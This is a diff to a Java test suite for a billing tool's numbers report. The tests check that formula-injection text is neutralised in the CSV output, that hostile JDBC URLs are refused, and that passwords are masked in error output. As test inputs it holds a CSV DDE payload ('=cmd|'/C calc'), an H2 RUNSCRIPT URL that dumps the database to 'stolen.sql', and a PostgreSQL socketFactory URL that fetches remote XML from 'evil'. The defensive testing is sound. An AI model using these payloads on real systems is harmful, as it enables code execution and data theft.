@@ -46,12 +46,47 @@ class HostileTextTest {
     @Test
     void shouldWriteACustomerNameThatIsAFormulaAsTextInTheNumbersReport() throws IOException {
         Path report = dir.resolve("numbers.csv");
-        assertThat(run("numbers", "--home", dir.resolve("home").toString(), "--at", "2024-06-30", "--tariffs", TARIFFS,
-                "--reference", reference().toString(), "--out", report.toString())).isEqualTo(ExitCodes.OK);
+        assertThat(numbersReport()).isEqualTo(ExitCodes.OK);
         assertThat(Files.readAllLines(report)).containsExactly(
                 "number,account_id,customer_name,plan_id,kind,status,payment_method,balance,currency",
                 "74951000001,A1,'=cmd|'/C calc'!A0,prostoy-prosto,SIP,ACTIVE,CREDIT,0.00,RUB",
                 "74951000002,A2,'=4+4,prostoy-prosto,SIP,ACTIVE,CREDIT,0.00,RUB",
                 "74951000003,A3,ООО «Ромашка»,prostoy-prosto,SIP,ACTIVE,CREDIT,0.00,RUB");
+    }
+
+    @Test
+    void shouldRefuseAJdbcUrlThatRunsAScriptAndNeverRunIt() throws IOException {
+        Path stolen = dir.resolve("stolen.sql");
+        Path evil = Files.writeString(dir.resolve("evil.sql"), "SCRIPT TO '" + stolen + "';\n");
+        String url = "jdbc:h2:mem:x;PASSWORD=s3cret;INIT=RUNSCRIPT FROM '" + evil + "'";
+        assertThat(numbersReport("--jdbc-url", url)).isEqualTo(ExitCodes.BAD_CONFIGURATION);
+        assertThat(stolen).doesNotExist();
+        assertThat(err.toString()).contains("the setting 'INIT' is not accepted").contains("PASSWORD=***").doesNotContain("s3cret");
+        assertThat(numbersReport("--jdbc-url", "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
+        assertThat(err.toString()).contains("the setting 'TRACE_LEVEL_FILE' is not accepted");
+        assertThat(numbersReport("--jdbc-url", "jdbc:postgresql://db/ratel?socketFactory=org.springframework.context.support"
+                + ".ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
+        assertThat(err.toString()).contains("the setting 'socketFactory' is not accepted");
+        assertThat(numbersReport("--jdbc-url", "jdbc:mysql://db/ratel")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
+        assertThat(err.toString()).contains("a database Ratel does not keep its job repository in");
+        assertThat(dir.resolve("numbers.csv")).doesNotExist();
+    }
+
+    @Test
+    void shouldNeverEchoAPasswordFromAJdbcUrl() throws IOException {
+        // nothing listens on port 1: the driver's own failure is the message, the password masked in it
+        assertThat(numbersReport("--jdbc-url", "jdbc:postgresql://127.0.0.1:1/ratel?user=ratel&password=s3cret&connectTimeout=2"))
+                .isEqualTo(ExitCodes.BAD_CONFIGURATION);
+        assertThat(err.toString()).contains("cannot open the job repository at jdbc:postgresql://127.0.0.1:1/ratel?user=ratel&password=***")
+                .doesNotContain("s3cret");
+        assertThat(numbersReport("--jdbc-url", "jdbc:postgresql://ratel:s3cret@127.0.0.1:1/ratel")).isEqualTo(ExitCodes.BAD_CONFIGURATION);
+        assertThat(err.toString()).contains("a password inside the address").doesNotContain("s3cret");
+    }
+
+    private int numbersReport(String... options) throws IOException {
+        java.util.List<String> args = new java.util.ArrayList<>(java.util.List.of("numbers", "--home", dir.resolve("home").toString(),
+                "--at", "2024-06-30", "--tariffs", TARIFFS, "--reference", reference().toString(), "--out", dir.resolve("numbers.csv").toString()));
+        args.addAll(java.util.List.of(options));
+        return run(args.toArray(new String[0]));
     }
 }
